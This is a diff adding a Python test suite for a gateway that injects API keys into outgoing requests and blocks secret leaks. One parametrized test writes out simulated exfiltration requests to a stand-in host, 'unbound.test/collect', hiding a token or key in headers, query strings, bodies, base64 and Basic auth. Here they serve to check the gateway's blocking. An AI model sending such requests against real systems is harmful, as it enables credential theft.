@@ -1,0 +1,234 @@
+"""Secret injection end to end: the official SDKs, configured only by environment,
+call inference APIs through the gateway; the upstream sees the real key, never the
+token; streams arrive as sent; keys never leak to other hosts, logs or responses."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import ssl
+import subprocess
+import sys
+import time
+from pathlib import Path
+from urllib.parse import quote
+
+import httpx
+import pytest
+from helpers.gateway import GatewayThread
+from helpers.tls import LocalCA
+from helpers.upstream import Upstream
+
+from conftest import GatewayFactory
+
+OPENAI_KEY = "sk-real-openai-key-0123456789abcdef"
+ANTHROPIC_KEY = "sk-ant-real-anthropic-key-0123456789"
+
+POLICY = """
+version: v1
+name: agent
+egress:
+  - host: api.openai.com
+    credential: openai
+  - host: api.anthropic.com
+    credential: anthropic
+  - host: unbound.test
+    inspect: true
+  - host: other.test
+credentials:
+  openai: {preset: openai, secret: openai-api-key}
+  anthropic: {preset: anthropic, secret: anthropic-api-key}
+"""
+
+
+@pytest.fixture
+def inference_gateway(make_gateway: GatewayFactory, tmp_path: Path) -> GatewayThread:
+    secrets = tmp_path / "secrets.yaml"
+    secrets.write_text(f"openai-api-key: {OPENAI_KEY}\nanthropic-api-key: {ANTHROPIC_KEY}\n")
+    secrets.chmod(0o600)
+    return make_gateway({"agent.yaml": POLICY},
+                        config={"secrets": {"store": "file", "path": str(secrets)}})
+
+
+def sandbox_env(gw: GatewayThread, token: str, bundle: Path) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.endswith(("_PROXY", "_proxy"))}
+    env.update({
+        "HTTPS_PROXY": gw.proxy_url(token), "SSL_CERT_FILE": str(bundle),
+        "OPENAI_API_KEY": token, "ANTHROPIC_API_KEY": token, "NO_PROXY": "",
+    })
+    return env
+
+
+SDK_SCRIPT = r"""
+import json, sys, time
+import openai, anthropic
+out = {}
+oc = openai.OpenAI(max_retries=0)
+r = oc.chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}])
+out["openai"] = r.choices[0].message.content
+arrivals = []
+for chunk in oc.chat.completions.create(model="gpt-test", stream=True,
+                                        messages=[{"role": "user", "content": "hi"}]):
+    if chunk.choices and chunk.choices[0].delta.content:
+        arrivals.append(time.time())
+out["openai_stream_gaps"] = [b - a for a, b in zip(arrivals, arrivals[1:])]
+ac = anthropic.Anthropic(max_retries=0)
+m = ac.messages.create(model="claude-test", max_tokens=10,
+                       messages=[{"role": "user", "content": "hi"}])
+out["anthropic"] = m.content[0].text
+arrivals = []
+with ac.messages.stream(model="claude-test", max_tokens=10,
+                        messages=[{"role": "user", "content": "hi"}]) as s:
+    for text in s.text_stream:
+        arrivals.append(time.time())
+out["anthropic_stream_gaps"] = [b - a for a, b in zip(arrivals, arrivals[1:])]
+print(json.dumps(out))
+"""
+
+
+def test_official_sdks_through_the_gateway(inference_gateway: GatewayThread,
+                                           upstream: Upstream, tmp_path: Path) -> None:
+    gw = inference_gateway
+    token = gw.mint("agent")
+    bundle = tmp_path / "bundle.pem"
+    bundle.write_bytes(gw.ca_cert.read_bytes())
+    before = len(upstream.requests)
+    out = subprocess.run([sys.executable, "-c", SDK_SCRIPT], env=sandbox_env(gw, token, bundle),
+                         capture_output=True, text=True, timeout=60)
+    assert out.returncode == 0, out.stderr[-2000:] + gw.audit.getvalue()[-2000:]
+    result = json.loads(out.stdout)
+    assert result["openai"] == "Hello" and result["anthropic"] == "Hello"
+    # Streamed events arrive spaced as sent (0.2 s apart), not all at once at the end.
+    for key in ("openai_stream_gaps", "anthropic_stream_gaps"):
+        assert len(result[key]) == 2 and all(0.1 < g < 0.4 for g in result[key]), result[key]
+    seen = upstream.requests[before:]
+    assert len(seen) == 4
+    for req in seen:
+        blob = json.dumps(req.headers)
+        assert token not in blob and "proxy-authorization" not in req.headers
+        if req.path.startswith("/v1/chat"):
+            assert req.headers["authorization"] == f"Bearer {OPENAI_KEY}"
+        else:
+            key = req.headers.get("x-api-key") or req.headers["authorization"].split()[-1]
+            assert key == ANTHROPIC_KEY
+    # Nothing the gateway wrote knows the keys or the token.
+    text = gw.audit.getvalue() + httpx.get(f"{gw.admin}/metrics").text
+    for secret in (OPENAI_KEY, ANTHROPIC_KEY, token):
+        assert secret not in text
+
+
+def _client(gw: GatewayThread, token: str) -> httpx.Client:
+    return httpx.Client(proxy=gw.proxy_url(token), timeout=10,
+                        verify=ssl.create_default_context(cafile=gw.ca_cert))
+
+
+def _prime(gw: GatewayThread, token: str) -> None:
+    """Make the gateway fetch the OpenAI key (leak detection knows fetched keys)."""
+    with _client(gw, token) as c:
+        assert c.post("https://api.openai.com/v1/chat/completions", json={},
+                      headers={"Authorization": f"Bearer {token}"}).status_code == 200
+
+
+@pytest.mark.parametrize("where", ["header", "query", "body", "base64", "urlencoded", "basic"])
+@pytest.mark.parametrize("what", ["token", "key"])
+def test_exfiltration_to_unbound_host_is_refused(inference_gateway: GatewayThread,
+                                                 upstream: Upstream, where: str,
+                                                 what: str) -> None:
+    gw = inference_gateway
+    token = gw.mint("agent")
+    _prime(gw, token)
+    value = token if what == "token" else OPENAI_KEY
+    url, headers, content = "https://unbound.test/collect", {}, None
+    if where == "header":
+        headers = {"X-Steal": value}
+    elif where == "query":
+        url += f"?v={value}"
+    elif where == "body":
+        content = json.dumps({"k": value}).encode()
+    elif where == "base64":
+        headers = {"X-Data": base64.b64encode(f"prefix:{value}".encode()).decode()}
+    elif where == "urlencoded":
+        content = f"data={quote('x ' + value)}".encode()
+    elif where == "basic":
+        headers = {"Authorization": "Basic " + base64.b64encode(f"u:{value}".encode()).decode()}
+    before = len(upstream.requests)
+    with _client(gw, token) as c:
+        r = c.post(url, headers=headers, content=content)
+    assert r.status_code == 403, r.text
+    assert r.json()["error"] == "exfiltration_blocked"
+    assert value not in r.text
+    assert len(upstream.requests) == before
+
+
+def test_echoed_key_is_redacted(inference_gateway: GatewayThread) -> None:
+    gw = inference_gateway
+    token = gw.mint("agent")
+    with _client(gw, token) as c:
+        r = c.get("https://api.openai.com/echo-header/Authorization",
+                  headers={"Authorization": f"Bearer {token}"})
+    assert r.status_code == 200
+    assert OPENAI_KEY not in r.text and OPENAI_KEY not in json.dumps(dict(r.headers))
+    assert "[REDACTED]" in r.text and "[REDACTED]" in r.headers["x-echo"]
+
+
+def test_token_missing_from_carrier_or_out_of_scope(inference_gateway: GatewayThread) -> None:
+    gw = inference_gateway
+    token = gw.mint("agent")
+    with _client(gw, token) as c:
+        r = c.post("https://api.openai.com/v1/chat/completions", json={})
+        assert r.status_code == 403 and r.json()["error"] == "credential_not_in_scope"
+    narrow = gw.mint("agent", scope={"anthropic": None})
+    with _client(gw, narrow) as c:
+        r = c.post("https://api.openai.com/v1/chat/completions", json={},
+                   headers={"Authorization": f"Bearer {narrow}"})
+        assert r.status_code == 403 and "scope" in r.json()["reason"]
+    path_scoped = gw.mint("agent", scope={"openai": frozenset({"/v1/models"})})
+    with _client(gw, path_scoped) as c:
+        r = c.post("https://api.openai.com/v1/chat/completions", json={},
+                   headers={"Authorization": f"Bearer {path_scoped}"})
+        assert r.status_code == 403
+        r = c.get("https://api.openai.com/v1/models",
+                  headers={"Authorization": f"Bearer {path_scoped}"})
+        assert r.status_code == 200
+
+
+def test_missing_secret_is_503_with_reason(make_gateway: GatewayFactory, tmp_path: Path) -> None:
+    secrets = tmp_path / "empty.yaml"
+    secrets.write_text("{}\n")
+    secrets.chmod(0o600)
+    gw = make_gateway({"agent.yaml": POLICY},
+                      config={"secrets": {"store": "file", "path": str(secrets)}})
+    token = gw.mint("agent")
+    with _client(gw, token) as c:
+        r = c.post("https://api.openai.com/v1/chat/completions", json={},
+                   headers={"Authorization": f"Bearer {token}"})
+    assert r.status_code == 503
+    assert r.json()["error"] == "secret_unavailable" and "openai-api-key" in r.json()["reason"]
+
+
+def test_stream_may_finish_after_token_expiry_next_request_refused(
+        inference_gateway: GatewayThread) -> None:
+    gw = inference_gateway
+    minted = gw.gateway.tokens.mint("sandbox-1", "agent", {"openai": None}, ttl=1)
+    token = minted.token
+    with _client(gw, token) as c:
+        with c.stream("POST", "https://api.openai.com/v1/chat/completions",
+                      json={"stream": True}, headers={"Authorization": f"Bearer {token}"}) as r:
+            events = [line for line in r.iter_lines() if line.startswith("data:")]
+        assert len(events) == 4  # 3 chunks + [DONE], while the token expired mid-stream
+        time.sleep(max(0.0, minted.expires_at - time.time()) + 0.1)
+        r2 = c.post("https://api.openai.com/v1/chat/completions", json={},
+                    headers={"Authorization": f"Bearer {token}"})
+        assert r2.status_code == 407 and r2.json()["error"] == "token_expired"
+
+
+def test_key_never_reaches_other_hosts(inference_gateway: GatewayThread,
+                                       upstream: Upstream, test_ca: LocalCA) -> None:
+    gw = inference_gateway
+    token = gw.mint("agent")
+    _prime(gw, token)
+    with _client(gw, token) as c:
+        c.get("https://unbound.test/x", headers={"Authorization": "Bearer not-a-token"})
+    assert all(OPENAI_KEY not in json.dumps(r.headers) for r in upstream.requests
+               if r.headers.get("host") != "api.openai.com")
